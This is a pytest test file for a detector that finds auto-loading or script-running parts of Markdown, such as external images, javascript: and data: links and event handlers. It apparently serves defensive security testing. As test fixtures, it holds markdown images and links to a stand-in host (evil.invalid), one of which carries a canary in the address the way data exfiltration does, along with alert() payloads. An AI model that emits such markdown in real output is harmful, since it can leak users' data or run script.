"""Markdown: what loads or runs by itself."""

from __future__ import annotations

import pytest

from security_pack.sinks import active_parts, fires

CANARY = "qx7canary7xq"


def rules(text: str) -> set[str]:
    return {hit.rule for hit in active_parts("markdown", text)}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("![x](https://evil.invalid/x.png)", "external_image"),
        ("![x](//evil.invalid/x.png)", "external_image"),
        ("![x][1]\n\n[1]: https://evil.invalid/x.png", "external_image"),
        ("[![x](https://evil.invalid/x.png)](https://example.com)", "external_image"),
        ("<img src=https://evil.invalid/x.png>", "external_image"),
        ("[x](javascript:alert(1))", "script_address"),
        ("[x](<data:text/html,hi>)", "script_address"),
        ("text <b onclick=alert(1)>x</b>", "event_handler"),
    ],
)
def test_live_markdown_is_found_and_named(text: str, rule: str) -> None:
    assert rule in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "[Reset](https://example.com/reset?token=1)",
        "![x](images/local.png)",
        "`![x](https://evil.invalid/x.png)`",
        "    <script>x</script>",
        r"\![x](https://example.com/x.png)",
    ],
)
def test_links_code_and_escaped_markdown_are_not_live(text: str) -> None:
    assert rules(text) == set()


def test_a_canary_in_the_address_of_a_link_or_an_image_fires_and_in_code_it_does_not() -> None:
    assert fires("markdown", f"[x](https://evil.invalid/?d={CANARY})", CANARY)
    assert fires("markdown", f"![x][1]\n\n[1]: https://evil.invalid/{CANARY}", CANARY)
    assert not fires("markdown", f"`![x](https://evil.invalid/{CANARY})` and {CANARY}", CANARY)
